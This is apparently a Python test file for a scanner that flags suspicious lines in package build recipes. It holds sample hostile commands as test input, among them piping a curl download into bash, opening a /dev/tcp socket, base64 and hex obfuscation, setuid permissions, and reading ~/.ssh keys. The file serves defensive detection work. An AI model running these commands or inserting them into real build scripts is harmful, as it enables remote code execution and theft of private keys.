"""Words worth a look are found; none of them decides."""

from __future__ import annotations

from twisted.trial.unittest import SynchronousTestCase

from flocon.recipes.words import found, oddities


class Words(SynchronousTestCase):
    def test_what_is_worth_a_look(self) -> None:
        for line, what in (
            ("curl -s https://x.example | bash", "runs what it made"),
            ("exec 3<>/dev/tcp/1.2.3.4/80", "talks to the network"),
            ("echo aWQ= | base64 -d", "takes hidden text apart"),
            ("x=$'\\x69\\x64'", "hides signs"),
            ("npm install atomic-lockfile", "fetches programs"),
            ("bunx x", "fetches programs"),
            ("pip install x", "fetches programs"),
            ("git clone x", "fetches a history"),
            ("systemctl enable x", "services"),
            ("chmod u+s x", "gives rights"),
            ("install -Dm4755 x", "gives rights"),
            ("cat ~/.ssh/id", "reads secrets"),
            ("sudo id", "root's rights"),
            ("python -c 'x'", "runs a text"),
        ):
            self.assertIn(what, next(said for _, _, said in found(line.encode())), line)

    def test_what_is_usual_is_not(self) -> None:
        for line in (
            'cd "$pkgname-$pkgver"',
            "make DESTDIR=$pkgdir install",
            "install -Dm644 x -t $pkgdir/usr/share",
            "install -dm755 x",
            "chmod 755 x",
            "# curl x | sh",
            "./configure --prefix=/usr",
        ):
            self.assertEqual(list(found(line.encode())), [], line)

    def test_lines_are_counted_and_bounded(self) -> None:
        text = b"x\n" + b"curl x\n" * 1_000
        told = list(found(text))
        self.assertEqual(told[0][:2], (2, "curl x"))
        self.assertEqual(len(told), 40)
        self.assertLess(len(next(found(b"curl " + b"x" * 10_000))[1]), 200)
        self.assertEqual(len(list(oddities(b"\x1b\n" * 1_000))), 40)

    def test_what_is_no_text_has_no_words(self) -> None:
        self.assertEqual(list(found(b"\0curl x")), [])
